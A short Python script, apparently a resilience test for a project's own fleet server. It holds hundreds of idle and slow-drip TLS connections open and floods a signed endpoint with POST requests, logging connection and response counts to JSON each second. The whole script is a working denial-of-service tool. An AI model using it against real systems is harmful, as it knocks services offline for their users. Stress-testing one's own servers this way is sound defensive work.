"""Attacks a server: ``attack.py HOST PORT CA KEY OUT`` opens idle and slow connections and sends a signed flood.

KEY is the key of an admitted site and signs the flood. A connection that the server closes is opened again. Every
second, ``OUT`` states in JSON how many connections are open and what the flood was answered.
"""

from __future__ import annotations

import asyncio
import contextlib
import json
import ssl
import sys
from collections import Counter
from datetime import UTC, datetime
from pathlib import Path

from common.node_auth import signed_headers
from common.pki import load_node_key

IDLE, SLOW, FLOOD = 600, 200, 64
PATH = "/v1/fleet/pull-messages"


async def attack(host: str, port: str, authority: str, key_file: str, out: Path) -> None:
    context, key = ssl.create_default_context(cafile=authority), load_node_key(Path(key_file))
    counts: Counter[str] = Counter()

    async def hold(kind: str) -> None:
        while True:
            with contextlib.suppress(OSError, TimeoutError):
                reader, writer = await asyncio.open_connection(host, int(port), ssl=context, ssl_handshake_timeout=30)
                counts[kind] += 1
                counts[f"{kind}-ever"] += 1
                try:
                    while not reader.at_eof():
                        if kind == "slow":
                            writer.write(b"P")
                        with contextlib.suppress(TimeoutError):
                            await asyncio.wait_for(reader.read(1024), timeout=1.0)
                finally:
                    counts[kind] -= 1
                    writer.transport.abort()
            await asyncio.sleep(1.0)

    async def flood() -> None:
        while True:
            with contextlib.suppress(OSError, TimeoutError):
                reader, writer = await asyncio.open_connection(host, int(port), ssl=context)
                headers = signed_headers(key, method="POST", path=PATH, now=datetime.now(UTC))
                lines = [f"POST {PATH} HTTP/1.1", f"host: {host}", "content-length: 0", "connection: close"]
                writer.write("\r\n".join((*lines, *(f"{k}: {v}" for k, v in headers.items()), "", "")).encode())
                words = (await asyncio.wait_for(reader.readline(), timeout=60.0)).split()
                counts[f"flood-{words[1].decode() if len(words) > 1 else 'cut'}"] += 1
                writer.transport.abort()
            await asyncio.sleep(0)

    async def say() -> None:
        while True:
            out.with_suffix(".part").write_text(json.dumps(counts))
            out.with_suffix(".part").rename(out)
            await asyncio.sleep(1.0)

    async with asyncio.TaskGroup() as tasks:
        for _ in range(IDLE):
            tasks.create_task(hold("idle"))
        for _ in range(SLOW):
            tasks.create_task(hold("slow"))
        for _ in range(FLOOD):
            tasks.create_task(flood())
        tasks.create_task(say())


if __name__ == "__main__":
    asyncio.run(attack(*sys.argv[1:5], Path(sys.argv[5])))
